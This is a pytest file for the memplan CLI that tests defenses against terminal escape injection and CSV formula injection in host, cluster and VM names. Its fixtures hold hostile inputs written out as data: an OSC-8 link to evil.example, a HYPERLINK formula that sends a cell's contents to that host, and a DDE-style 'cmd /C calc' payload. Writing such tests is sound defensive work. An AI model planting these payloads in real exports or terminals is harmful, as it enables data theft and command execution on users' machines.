"""Terminal and format injection (issue 17): a name may carry escape sequences, OSC-8
hyperlinks, Rich markup, emoji codes, bidirectional overrides and line breaks; no output
passes them on, and every JSON and XML output stays valid whatever the names."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from memplan.cli import app
from memplan.render.base import csv_field
from memplan.render.safe import safe_line, safe_text

CLUSTER = "c\x1b[31mred\x7f"
HOST = "h\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
VM1 = "v1\u202e[link=http://x]y[/link]:smile:|`x`\x85\x9b2J"
VM2 = "v2\r\nline\x00"[:-1]  # a NUL is refused by the reader (test below)
EVIL = f"""\
version: 1
clusters:
  - name: {json.dumps(CLUSTER)}
    hosts:
      - name: {json.dumps(HOST)}
        memory: 16GiB
        vms:
          - {{name: {json.dumps(VM1)}, memory: 30GiB}}
          - {{name: {json.dumps(VM2)}, memory: 1GiB}}
"""
UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    path = tmp_path / "evil.yaml"
    path.write_text(EVIL)
    return path


def test_safe_text_and_line() -> None:
    assert safe_text("a\x1b[31mb\nc\u202e\x85\td") == "a\\u001b[31mb\nc\\u202e\\u0085\td"
    assert safe_line("x\ny\tz\r") == "x\\u000ay\\u0009z\\u000d"
    assert safe_text("plain ascii, unchanged") == "plain ascii, unchanged"
    assert json.loads('"' + safe_text("\ud800\u2028") + '"') == "\ud800\u2028"  # valid JSON


def test_exactly_the_unsafe_characters_are_escaped() -> None:
    """Every code point of the BMP (and astral samples), against the list spelled out one
    by one: C0 and C1 controls, DEL, line and paragraph separators, bidirectional
    embeddings, overrides and isolates, lone surrogates and the two non-characters XML
    refuses."""
    unsafe = {*range(0x20), *range(0x7F, 0xA0), 0x2028, 0x2029, *range(0x202A, 0x202F),
              *range(0x2066, 0x206A), *range(0xD800, 0xE000), 0xFFFE, 0xFFFF}  # fmt: skip
    unsafe_in_text = unsafe - {0x09, 0x0A, 0x0D}
    points = [*range(0x10000), 0x10000, 0x1F600, 0x10FFFF]  # the BMP and astral samples
    every = "".join(map(chr, points))
    line = "".join(f"\\u{c:04x}" if c in unsafe else chr(c) for c in points)
    text = "".join(f"\\u{c:04x}" if c in unsafe_in_text else chr(c) for c in points)
    assert safe_line(every) == line
    assert safe_text(every) == text


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "markdown", "junit", "sarif", "github",
                                 "codeclimate"])  # fmt: skip
def test_no_output_format_passes_control_characters_on(
    evil: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"out.{fmt}"
    result = CliRunner().invoke(app, ["check", str(evil), "-f", fmt, "-o", str(out), "--vms"])
    assert result.exit_code == 1, result.output
    text = out.read_text(encoding="utf-8")
    assert not UNSAFE.search(text), UNSAFE.findall(text)
    if fmt in ("json", "sarif", "codeclimate"):
        doc = json.loads(text)  # valid, and the names survive exactly
        if fmt == "json":
            assert {h["name"] for h in doc["hosts"]} == {HOST}
    elif fmt == "junit":
        ET.fromstring(text.encode())
    if fmt == "table":
        assert "\\u001b]8;;http://evil.example/" in text
        assert "[link=http://x]y[/link]:smile:" in text  # markup and emoji codes as written
    if fmt == "markdown":
        assert "v1\\u202e[link=http://x]y[/link]:smile:\\|" in text  # the table stays a table


def test_stdout_table_and_stderr_are_safe_too(evil: Path) -> None:
    result = CliRunner().invoke(app, ["check", str(evil), "--vms", "--no-color"])
    assert result.exit_code == 1
    assert not UNSAFE.search(result.stdout)
    result = CliRunner().invoke(app, ["check", str(evil), "--host", "h\x1b[2Jx"])
    assert result.exit_code == 2
    assert not UNSAFE.search(result.stderr)


def test_a_nul_in_a_name_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "nul.yaml"
    path.write_text('version: 1\nhosts:\n  - name: "a\\0b"\n    memory: 16GiB\n')
    result = CliRunner().invoke(app, ["check", str(path)])
    assert result.exit_code == 4
    assert result.stderr.splitlines()[0] == (
        f"{path}:3:11: error: host name contains a NUL character (\\0)"
    )


def test_a_lone_surrogate_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    path.write_text('version: 1\nhosts:\n  - name: "a\\ud800"\n    memory: 16GiB\n')
    result = CliRunner().invoke(app, ["check", str(path)])
    assert result.exit_code == 4
    assert "found invalid Unicode character escape code" in result.stderr  # libyaml's check


def test_govc_names_with_nul_and_lone_surrogates(tmp_path: Path) -> None:
    path = tmp_path / "g.json"
    host = {"name": "esx1", "self": {"value": "host-1"},
            "summary": {"hardware": {"memorySize": 64 << 30}}}  # fmt: skip
    vms = [{"name": name, "config": {"hardware": {"memoryMB": 1024}},
            "runtime": {"host": {"value": "host-1"}}} for name in ("a\x00b", "c\ud800d", "ok")]  # fmt: skip
    path.write_text(json.dumps({"hostSystems": [host], "virtualMachines": vms}))
    result = CliRunner().invoke(app, ["import", "govc", str(path)])
    assert result.exit_code == 0, result.stderr
    assert "import: VM #1: the name contains a NUL character" in result.stderr
    assert '"c?d"' in result.stdout
    assert not UNSAFE.search(result.stderr)


@pytest.mark.parametrize(
    "args",
    [
        ["project", "{evil}", "-f", "csv"],
        ["project", "{evil}", "-f", "json"],
        ["project", "{evil}"],
        ["diff", "{evil}", "{evil}", "-f", "markdown"],
        ["diff", "{evil}", "{evil}", "-f", "json"],
        ["headroom", "{evil}", "--vm", "1GiB", "-f", "json"],
        ["headroom", "{evil}", "--vm", "1GiB"],
        ["rightsize", "{evil}", "-f", "csv"],
        ["rightsize", "{evil}", "-f", "markdown"],
        ["rightsize", "{evil}"],
    ],
)
def test_other_commands_pass_no_control_characters_on(evil: Path, args: list[str]) -> None:
    result = CliRunner().invoke(app, [a.format(evil=evil) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code in (0, 1), result.output
    assert not UNSAFE.search(result.stdout), UNSAFE.findall(result.stdout)
    if "json" in args:
        json.loads(result.stdout)


# --- CSV formula injection (OWASP, CSV Injection) -----------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+2", "\r=1+2", "a;=1+2"]  # fmt: skip
"""Names a spreadsheet would run as formulas (the last in a locale that splits on ;)."""


def _formula_inventory(tmp_path: Path, collected: str = "") -> Path:
    vms = "\n".join(f"          - {{name: {json.dumps(n)}, memory: 1GiB}}" for n in FORMULAS)
    path = tmp_path / f"formulas{collected[:10]}.yaml"
    path.write_text(
        f"version: 1\n{f'collected: {collected}' if collected else ''}\nclusters:\n"
        f"  - name: '=1+1'\n    hosts:\n      - name: '@esx1'\n        memory: 64GiB\n"
        f"        vms:\n{vms}\n"
    )
    return path


def _cells(text: str) -> list[list[str]]:
    """The rows a spreadsheet sees: split on commas, and again on semicolons and tabs
    outside quotes, as Excel does in locales whose separator they are."""
    return [row for sep in (",", ";", "\t") for row in csv.reader(io.StringIO(text), delimiter=sep)]


def _assert_no_formula(text: str) -> None:
    cells = [c for row in _cells(text) for c in row]
    starts = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert not starts, starts


@pytest.mark.parametrize("extra", [[], ["--csv-vms"]])
def test_check_csv_never_starts_a_cell_with_a_formula(tmp_path: Path, extra: list[str]) -> None:
    result = CliRunner().invoke(app, ["check", str(_formula_inventory(tmp_path)), "-f", "csv",
                                      *extra])  # fmt: skip
    assert result.exit_code == 0, result.output
    _assert_no_formula(result.stdout)
    rows = list(csv.reader(io.StringIO(result.stdout)))
    if not extra:
        assert rows[1][:2] == ["'=1+1", "'@esx1"]
    else:  # each name whole in its own cell, behind one quote where it would run
        assert sorted(r[0] for r in rows[1:]) == sorted(
            n if n[0] == "a" else "'" + n for n in FORMULAS
        )


def test_rightsize_project_and_trend_csv_escape_names_too(tmp_path: Path) -> None:
    path = _formula_inventory(tmp_path)
    for args in (["rightsize", str(path)], ["project", str(path), "--horizon", "2m"]):
        result = CliRunner().invoke(app, [*args, "-f", "csv"])
        assert result.exit_code == 0, result.output
        assert "'=1+1" in result.stdout
        assert "'@esx1" in result.stdout
        _assert_no_formula(result.stdout)
    first = _formula_inventory(tmp_path, "2026-01-01T00:00:00")
    second = _formula_inventory(tmp_path, "2026-03-01T00:00:00")
    result = CliRunner().invoke(app, ["trend", str(first), str(second), "-f", "csv"])
    assert result.exit_code == 0, result.output
    assert "host,'@esx1,'=1+1," in result.stdout
    _assert_no_formula(result.stdout)


@given(st.text())
def test_csv_field_reads_back_as_one_cell_holding_the_text(text: str) -> None:
    cell = csv_field(text)
    rows = list(csv.reader(io.StringIO(cell + ",x\n"), strict=True))
    assert rows == [[text if not text.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
                     else "'" + text, "x"]]  # fmt: skip
    assert csv_field(None) == ""
    assert csv_field(-3) == "-3"
    assert csv_field(0.5) == "0.5"
